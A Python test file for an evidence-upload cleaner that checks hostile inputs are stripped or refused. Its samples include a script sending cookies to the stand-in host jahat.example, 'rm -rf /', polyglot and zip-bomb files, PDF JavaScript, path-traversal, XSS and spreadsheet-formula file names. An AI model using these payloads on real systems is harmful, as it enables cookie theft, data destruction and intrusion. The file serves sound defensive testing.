"""Files that are two things at once, or more than they look; and what a camera says of a photo."""

from __future__ import annotations

import io
import zipfile
import zlib
from datetime import date
from typing import Any

import pytest
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, StreamObject, TextStringObject
from test_evidence import held, keep, photo, why_not  # noqa: F401

from tangga.web.work import camera, cleaning
from tangga.web.work.cleaning import Refused, clean

SCRIPT = b"<script>fetch('//jahat.example/'+document.cookie)</script>"
TODAY = date(2026, 3, 1)


def archive() -> bytes:
    """A zip with a program in it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr("hadiah.exe", b"MZ-program" * 50)
    return out.getvalue()


def pdf(content: bytes = b"0 0 50 50 re f") -> bytes:
    """One page that draws a square."""
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    drawn = StreamObject()
    drawn.set_data(content)
    page[NameObject("/Contents")] = writer._add_object(drawn)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize("behind", [archive(), SCRIPT, b"#!/bin/sh\nrm -rf /", pdf()])
def test_a_photo_that_is_something_else_as_well_is_only_a_photo(behind: bytes) -> None:
    for form in ("JPEG", "PNG", "WEBP"):
        kept = clean(photo(form) + behind)
        assert kept.media == cleaning.JPEG
        assert behind[:20] not in kept.content
        assert not zipfile.is_zipfile(io.BytesIO(kept.content))


@pytest.mark.parametrize("behind", [archive(), SCRIPT, b"MZ\x90\0 program"])
def test_a_paper_that_is_something_else_as_well_is_only_a_paper(behind: bytes) -> None:
    sent = pdf() + b"\n" + behind
    kept = clean(sent)
    assert kept.media == cleaning.PDF and kept.content.startswith(b"%PDF-")
    assert behind[:20] not in kept.content
    assert not zipfile.is_zipfile(io.BytesIO(kept.content))
    assert PdfReader(io.BytesIO(kept.content)).pages[0].get_contents() is not None


@pytest.mark.parametrize(
    "before", [SCRIPT, b"GIF89a/*", archive(), b"\xff\xd8\xff\xe0", b"MZ", b"\0" * 900]
)
def test_a_paper_behind_something_else_is_none(before: bytes) -> None:
    """A reader of PDF takes a header anywhere in the first kilobyte; we do not."""
    with pytest.raises(Refused):
        clean(before + pdf())


def test_a_form_with_scripts_below_its_fields_keeps_none() -> None:
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    act = DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("evil()"),
    })  # fmt: skip
    deep = DictionaryObject({NameObject("/Next"): act})
    page[NameObject("/Resources")] = DictionaryObject({NameObject("/Properties"): deep})
    names = DictionaryObject({NameObject("/JavaScript"): act})
    writer.root_object[NameObject("/Names")] = names
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/XFA"): act})
    out = io.BytesIO()
    writer.write(out)
    assert b"evil" in out.getvalue()
    kept = clean(out.getvalue()).content
    for gone in (b"evil", b"/JS", b"/XFA", b"/AcroForm"):
        assert gone not in kept


@pytest.mark.slow
def test_a_stream_that_unpacks_without_end_is_not_unpacked_here() -> None:
    """Two gigabytes of nothing in two megabytes, as a list of objects that has to be read."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b"\0" * 1_000_000) for _ in range(1500)) + packer.flush()
    bomb = b"%PDF-1.5\n1 0 obj\n<</Type/XRef/Size 2/W[1 2 1]/Root 1 0 R/Filter/FlateDecode/Length "
    bomb += str(len(packed)).encode() + b">>\nstream\n" + packed + b"\nendstream\nendobj\n"
    bomb += b"startxref\n9\n%%EOF"
    assert len(bomb) < 3_000_000
    assert why_not(bomb) in ("damaged", "too_heavy", "empty_pages")


@pytest.mark.parametrize(
    "name",
    [
        "<script>alert(1)</script>.jpg", "../../../etc/passwd", "foto\x00.php", "a" * 5000 + ".jpg",
        "rumah\u202egpj.exe", '"><img src=x onerror=alert(1)>.png', "=cmd|' /C calc'!A0.jpg",
    ],
)  # fmt: skip
def test_a_name_is_shown_and_never_used(web: Any, held: tuple[Any, Any], name: str) -> None:  # noqa: F811
    from django.core.files.uploadedfile import SimpleUploadedFile

    from tangga.web.work import evidence

    item, folder = held
    upload = SimpleUploadedFile("x.jpg", photo(), "text/html")
    upload._name = name  # as a forged request would have it, past Django's own check
    found = evidence.keep(upload, item=item, by=None, kind="photo")
    assert len(found.name) <= 200 and "/" not in found.name
    assert not any(ord(one) < 32 or "\u202a" <= one <= "\u202e" for one in found.name)
    assert (folder / found.stored).resolve().is_relative_to(folder.resolve())
    page = web.client("verifikator_kabkota", "1811").get(f"/bukti/{found.pk}/").content.decode()
    main = page.partition("<main")[2]
    assert "<script" not in main.partition("</main>")[0]
    assert "<img src=x" not in main
    sent = web.client("verifikator_kabkota", "1811").get(f"/bukti/{found.pk}/berkas/")
    assert sent["Content-Disposition"] == f'inline; filename="bukti-{found.pk.hex[:8]}.jpg"'


def of_camera(**said: Any) -> bytes:
    """A photo as a telephone takes it: on a day, at a place."""
    exif = Image.Exif()
    if "taken" in said:
        exif.get_ifd(camera.CAMERA)[camera.TAKEN] = said["taken"]
    if "gps" in said:
        exif.get_ifd(camera.GPS).update(said["gps"])
    return photo(exif=exif)


MESUJI = {1: "S", 2: (4.0, 3.0, 36.0), 3: "E", 4: (105.0, 24.0, 0.0)}


def test_day_and_place_of_a_photo_become_fields(web: Any, held: tuple[Any, Any]) -> None:  # noqa: F811
    from tangga.web.today import pretend
    from tangga.web.work import evidence

    item, _ = held
    sent = of_camera(taken="2026:02:27 09:15:00", gps=MESUJI)
    with pretend(TODAY):
        found = keep(item, web, sent)
        own = keep(item, web, sent, taken_on=date(2026, 2, 1), place="-3.8, 102.2")
    assert found.taken_on == date(2026, 2, 27)
    assert evidence.place_of(found) == "-4.06000, 105.40000"
    assert own.taken_on == date(2026, 2, 1), "what somebody says goes before the camera"
    assert evidence.place_of(own) == "-3.8, 102.2"
    assert not Image.open(io.BytesIO(evidence.opened(found, by=_anybody(web)))).getexif()


def _anybody(web: Any) -> Any:
    from test_evidence import viewer_of

    return viewer_of(web, "verifikator_kabkota", "1811")


def test_a_photo_of_a_case_says_neither(web: Any, held: tuple[Any, Any]) -> None:  # noqa: F811
    item, _ = held
    item.cased = True
    found = keep(item, web, of_camera(taken="2026:02:27 09:15:00", gps=MESUJI))
    assert found.taken_on is None and found.place is None


@pytest.mark.parametrize(
    "said",
    [
        {},
        {"taken": "0000:00:00 00:00:00"},
        {"taken": "2031:01:01 10:00:00"},
        {"taken": "kemarin"},
        {"taken": "1970:01:01 00:00:00"},
        {"gps": {1: "S", 2: (400.0, 0.0, 0.0), 3: "E", 4: (1.0, 0.0, 0.0)}},
        {"gps": {1: "S", 2: (4.0, 3.0), 3: "E", 4: (105.0, 0.0, 0.0)}},
        {"gps": {2: (4.0, 0.0, 0.0)}},
        {"gps": {1: "N", 2: (0.0, 0.0, 0.0), 3: "E", 4: (0.0, 0.0, 0.0)}},
    ],
)
def test_what_a_camera_cannot_mean_is_not_taken(said: dict[str, Any]) -> None:
    assert camera.said(of_camera(**said), TODAY) == camera.Said()


@pytest.mark.parametrize(
    "content", [b"", b"%PDF-1.7", b"\xff\xd8\xff" + b"\xe1" * 60, photo()[:90]]
)
def test_no_photo_says_nothing(content: bytes) -> None:
    assert camera.said(content, TODAY) == camera.Said()
